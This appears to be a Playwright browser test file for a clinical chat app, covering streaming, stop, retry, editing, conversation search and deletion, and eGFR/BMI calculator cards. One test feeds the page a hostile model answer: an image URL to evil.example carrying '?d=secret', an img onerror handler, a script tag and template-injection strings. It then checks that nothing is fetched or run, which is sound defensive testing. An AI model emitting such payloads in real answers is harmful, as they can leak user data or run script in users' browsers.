"""Ask, stream, stop, retry, edit, new, delete, find again: in the browser, on the running app."""

from uuid import uuid4

import pytest
from playwright.sync_api import expect

from core.database import Database
from core.records.conversations import Conversations
from tests.browser.conftest import Bedside
from tests.fake_model_server import FakeModelServer, Handler, Request, Says, no_tool
from tests.running_app import App

EGFR = "What is the eGFR of a 64-year-old woman with a creatinine of 1.4 mg/dL?"


def saying(*pieces: str, delay: float = 0.0) -> Handler:
    """A model that chooses no tool and then says this."""

    def handler(request: Request) -> Says:
        return no_tool() if request.schema else Says(pieces, delay=delay)

    return handler


def test_a_question_gets_its_card_and_a_streamed_answer(bedside: Bedside, model: FakeModelServer) -> None:
    model.handler = saying(*[f"word{i} " for i in range(60)], delay=0.1)
    bedside.ask(EGFR)
    expect(bedside.cards.filter(has_text="eGFR").locator(".value")).to_contain_text("42")
    expect(bedside.answer).to_contain_text("word3")
    expect(bedside.answer).not_to_contain_text("word59", timeout=1)
    place = bedside.cards.first.bounding_box()
    expect(bedside.answer).to_contain_text("word9")
    assert bedside.cards.first.bounding_box() == place, "the cards stay where they are while text streams"
    bedside.until_answered()
    expect(bedside.answer).to_contain_text("word59")
    expect(bedside.answer.locator(".foot")).to_contain_text("Draft to verify")


def test_stop_ends_the_answer_and_keeps_what_was_shown(bedside: Bedside, model: FakeModelServer) -> None:
    model.handler = saying(*[f"word{i} " for i in range(300)], delay=0.1)
    model.hung_up.clear()
    bedside.ask("Tell me about the adverse effects of amiodarone")
    expect(bedside.answer).to_contain_text("word3")
    bedside.button("Stop").click()
    bedside.until_answered()
    expect(bedside.answer).to_contain_text("word3")
    expect(bedside.answer).not_to_contain_text("word299")
    assert model.hung_up.wait(10), "the model was told to stop"
    bedside.page.reload()
    expect(bedside.answer).to_contain_text("word3")
    model.handler = saying("Second.")
    bedside.ask("And of digoxin?")
    bedside.until_answered()
    expect(bedside.page.locator(".turn")).to_have_count(2)


def test_retry_asks_again_in_place_of_the_answer(bedside: Bedside, model: FakeModelServer) -> None:
    model.handler = saying("First wording.")
    bedside.ask("Which drugs prolong the QT interval?")
    bedside.until_answered()
    model.handler = saying("Second wording.")
    bedside.button("Retry").click()
    expect(bedside.answer).to_contain_text("Second wording.")
    bedside.until_answered()
    expect(bedside.page.locator("#transcript")).not_to_contain_text("First wording.")
    expect(bedside.page.locator(".question")).to_have_count(1)


def test_edit_replaces_the_message_and_all_after_it(bedside: Bedside, model: FakeModelServer) -> None:
    for question in ("What does aspirin do?", "And clopidogrel?"):
        bedside.ask(question)
        bedside.until_answered()
    bedside.button("Edit").first.click()
    message = bedside.page.get_by_label("Message", exact=True)
    expect(message).to_have_value("What does aspirin do?")
    bedside.ask("What does heparin do?")
    expect(bedside.page.locator(".question")).to_have_count(1)
    bedside.until_answered()
    expect(bedside.page.locator(".question")).to_contain_text("heparin")
    bedside.page.reload()
    expect(bedside.page.locator(".question")).to_have_count(1)


def test_an_edit_can_be_cancelled(bedside: Bedside) -> None:
    bedside.ask("What does aspirin do?")
    bedside.until_answered()
    bedside.button("Edit").click()
    expect(bedside.page.locator("#editing")).to_be_visible()
    bedside.button("Cancel edit").click()
    expect(bedside.page.locator("#editing")).to_be_hidden()
    expect(bedside.page.get_by_label("Message", exact=True)).to_have_value("")


def test_a_reload_shows_the_conversation_and_goes_on_with_it(bedside: Bedside, model: FakeModelServer) -> None:
    bedside.ask(EGFR)
    bedside.until_answered()
    before = bedside.page.locator(".turn").first.inner_text()
    bedside.page.reload()
    expect(bedside.cards.locator(".value").first).to_contain_text("42")
    assert before.splitlines()[0] in bedside.page.locator(".turn").first.inner_text()
    bedside.ask("What does that mean for ibuprofen?")
    bedside.until_answered()
    expect(bedside.page.locator(".question")).to_have_count(2)
    assert "64-year-old woman" in model.requests[-1].text, "the model hears what was said before"


def test_new_search_open_and_delete(bedside: Bedside) -> None:
    bedside.ask("Question about quinidine")
    bedside.until_answered()
    bedside.button("New conversation").click()
    expect(bedside.page.locator(".question")).to_have_count(0)
    bedside.ask("Question about ranolazine")
    bedside.until_answered()
    bedside.page.get_by_label("Search conversations").fill("quinidine")
    expect(bedside.conversations).to_have_count(1)
    bedside.conversations.first.click()
    expect(bedside.page.locator(".question")).to_contain_text("quinidine")
    bedside.page.get_by_label("Search conversations").fill("")
    expect(bedside.conversations.filter(has_text="ranolazine")).to_have_count(1)
    entry = bedside.page.locator("#list li", has_text="quinidine")
    entry.get_by_role("button", name="More:").click()
    entry.get_by_role("button", name="Delete", exact=True).click()
    entry.get_by_role("button", name="Delete for good").click()
    expect(bedside.page.locator("#list li", has_text="quinidine")).to_have_count(0)
    expect(bedside.page.locator(".question")).to_have_count(0)
    bedside.page.reload()
    expect(bedside.conversations.filter(has_text="ranolazine")).to_have_count(1)
    expect(bedside.conversations.filter(has_text="quinidine")).to_have_count(0)


def test_earlier_messages_come_in_above_and_the_reader_stays_where_they_were(bedside: Bedside, app: App) -> None:
    page = bedside.page
    bedside.ask("What is the BMI of a man of 82 kg and 1.75 m?")  # the app has made its database
    bedside.until_answered()
    database = Database.in_folder(app.folder / "data")
    kept = Conversations(database, app.folder / "data")
    long = kept.start("local", "A long round of conversation")
    for number in range(30):
        text, answer = f"Question {number}.", "Noted. " * 40
        turn = uuid4().hex
        kept.record("local", long, turn, text=text, image_ids=(), outcome="answered", answer=answer, events=())
    database.close()
    page.reload()
    bedside.conversations.filter(has_text="A long round").click()
    more = bedside.button("Show earlier messages (10)")
    more.scroll_into_view_if_needed()
    more.click()
    expect(page.locator(".question")).to_have_count(30)
    expect(more).to_have_count(0)
    expect(page.locator(".question", has_text="Question 10.")).to_be_in_viewport()
    expect(page.locator(".question", has_text="Question 0.")).not_to_be_in_viewport()


def test_one_click_on_the_unit_computes(bedside: Bedside) -> None:
    bedside.ask("58M Cr 1.9 eGFR?")
    suggestion = bedside.cards.locator("button.act-say", has_text="mg/dL").first
    expect(suggestion).to_be_visible()
    bedside.until_answered()
    suggestion.click()
    expect(bedside.cards.locator(".value").first).to_contain_text("40")
    expect(bedside.cards.locator(".value").first).to_contain_text("mL/min")


def test_a_missing_value_can_be_filled_in_on_its_card(bedside: Bedside) -> None:
    bedside.ask("What is the BMI? Her weight is 82 kg.")
    form = bedside.cards.locator("form.fill")
    expect(form).to_be_visible()
    bedside.until_answered()
    form.locator("input[type=text]").fill("1.75")
    form.locator("select.unit-of").select_option("m")
    form.get_by_role("button", name="Compute").click()
    expect(bedside.cards.locator(".value").first).to_contain_text("26.8")


def test_a_value_can_be_changed_on_the_card(bedside: Bedside) -> None:
    bedside.ask("What is the BMI of a man of 82 kg and 1.75 m?")
    bedside.until_answered()
    bedside.cards.locator(".change summary").click()
    bedside.cards.locator(".change").get_by_label("weight").fill("90")
    bedside.button("Compute again").click()
    expect(bedside.page.locator(".question")).to_have_count(2)
    expect(bedside.page.locator(".question .words").last).to_have_text("weight 90 kg")
    expect(bedside.cards.locator(".value").first).to_contain_text("29.4")


def test_what_the_model_says_fetches_nothing_and_runs_nothing(bedside: Bedside, model: FakeModelServer) -> None:
    hostile = (
        "![](https://evil.example/x?d=secret) [link](https://evil.example/y) "
        "<img src=https://evil.example/z onerror=a()>"
        "<script>document.title='owned'</script> $$x$$ `${1}` {{value}}"
    )
    model.handler = saying(hostile)
    bedside.ask("Which drugs prolong the QT interval?")
    bedside.until_answered()
    expect(bedside.answer).to_contain_text("<script>")
    assert bedside.page.title() == "Bedside"
    assert bedside.page.locator(".answer a, .answer img, .answer script").count() == 0
    assert [url for url in bedside.requests if not url.startswith((bedside.address, "data:", "blob:"))] == []


@pytest.mark.parametrize("text", ["", "   "])
def test_an_empty_message_is_refused_in_a_sentence(bedside: Bedside, text: str) -> None:
    bedside.ask(text)
    expect(bedside.page.locator(".card.error")).to_contain_text("The message is empty.")


def test_a_model_that_dies_is_told_and_the_next_question_works(bedside: Bedside, model: FakeModelServer) -> None:
    model.handler = lambda request: (
        no_tool() if request.schema else Says(["One ", "two ", "three"], 0, 0.1, dies_after=2)
    )
    bedside.ask("Which drugs prolong the QT interval?")
    expect(bedside.page.locator(".card.error")).to_be_visible()
    bedside.until_answered()
    model.handler = saying("All well.")
    bedside.ask("Which drugs shorten it?")
    expect(bedside.answer).to_contain_text("All well.")


def test_a_restart_keeps_the_conversations(bedside: Bedside, app: App) -> None:
    bedside.ask("Question about tocainide")
    bedside.until_answered()
    address = bedside.page.url
    app.stop()
    app.start()
    bedside.page.goto(address.replace(bedside.address, app.address))
    expect(bedside.page.locator(".question")).to_contain_text("tocainide")
    expect(bedside.conversations.filter(has_text="tocainide")).to_have_count(1)
